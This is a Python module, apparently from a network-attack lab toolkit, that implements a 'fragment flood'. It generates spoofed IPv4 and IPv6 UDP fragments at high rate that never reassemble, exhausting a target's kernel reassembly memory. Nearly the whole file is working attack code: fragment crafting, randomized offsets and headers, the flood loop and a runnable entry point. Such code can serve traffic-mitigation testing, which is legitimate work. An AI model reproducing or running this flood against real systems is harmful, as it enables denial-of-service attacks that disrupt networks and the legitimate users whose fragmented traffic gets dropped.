"""Fragment flood: pieces of datagrams whose other pieces never come.

First fragments carry a UDP header, the others only their place in the whole; every one is of another
datagram. Each takes memory of the edge's kernel until it gives up waiting (RFC 791, RFC 8200 section 4.5).
It is aimed at that memory, and harms whose own datagrams come in pieces.
"""

from __future__ import annotations

from functools import partial

import numpy as np
from pydantic import Field

from rempart.lab.attacks.contract import Attack, AttackParameters, Order, Sources, Unit
from rempart.lab.attacks.ip_frames import ETHERNET, FRAGMENT, UDP, UDP_HEADER, Packet, any_ports, flood
from rempart.lab.attacks.packets import BATCH, Frames, put16, put32
from rempart.lab.attacks.reporting import Tally, own_sender, run_sender

FRAGMENT_HEADER = 8
MORE_V4, MORE_V6 = 0x2000, 0x0001
WHOLE = 8_000
"""A datagram of so many octets is what first fragments pretend to begin."""


class FragmentFlood(AttackParameters):
    """Which pieces, and how large."""

    payload: int = Field(default=128, ge=8, le=1_400, multiple_of=8)
    """Octets of the datagram in each fragment."""
    first_share: float = Field(default=0.5, ge=0, le=1)
    """Share of first fragments; the others are from the middle or the end."""


FRAGMENT_FLOOD = Attack(
    name="fragment-flood",
    unit=Unit.PACKETS,
    summary="first and later fragments, IPv4 and IPv6, of datagrams that never become whole",
    defaults=FragmentFlood(rate=150_000, sources=Sources.SPOOFED, v6_share=0.25),
    sender=lambda order: own_sender(order, "fragment_flood", packets=True),
)


def packet(parameters: FragmentFlood, v6: bool) -> Packet:
    """A fragment of a UDP datagram."""
    payload = bytes(parameters.payload)
    body = bytes((UDP, 0)) + bytes(FRAGMENT_HEADER - 2) + payload if v6 else payload
    return Packet(
        FRAGMENT if v6 else UDP, body, partial(_renew, parameters, v6), checksum_at=None, flags=MORE_V4
    )


def _renew(parameters: FragmentFlood, v6: bool, frames: Frames, at: int, chosen: np.random.Generator) -> None:
    first = chosen.random(BATCH) < parameters.first_share
    more = first | (chosen.random(BATCH) < 0.5)
    # In units of 8 octets (RFC 791), within the largest datagram there can be.
    places = chosen.integers(1, (65_528 - parameters.payload - 40) // 8, BATCH, dtype=np.uint32)
    places[first] = 0
    if v6:
        put16(frames, at + 2, (places << np.uint32(3)) | np.where(more, np.uint32(MORE_V6), np.uint32(0)))
        put32(frames, at + 4, chosen.integers(0, 1 << 32, BATCH, dtype=np.uint32))
        at += FRAGMENT_HEADER
    else:
        put16(frames, ETHERNET + 6, places | np.where(more, np.uint32(MORE_V4), np.uint32(0)))
    frames[:, at:] = chosen.integers(0, 256, (BATCH, parameters.payload), dtype=np.uint8)
    header = np.zeros((BATCH, UDP_HEADER), dtype=np.uint8)
    put16(header, 0, any_ports(chosen))
    put16(header, 2, any_ports(chosen, least=1))
    put16(header, 4, np.full(BATCH, WHOLE, dtype=np.uint32))
    put16(header, 6, any_ports(chosen, least=1))  # a checksum that nobody will ever verify
    frames[first, at : at + UDP_HEADER] = header[first]


def carry_out(order: Order, tally: Tally) -> None:
    parameters = FragmentFlood.model_validate(order.parameters)
    flood(order, parameters, tally, partial(packet, parameters))


if __name__ == "__main__":
    run_sender(carry_out)
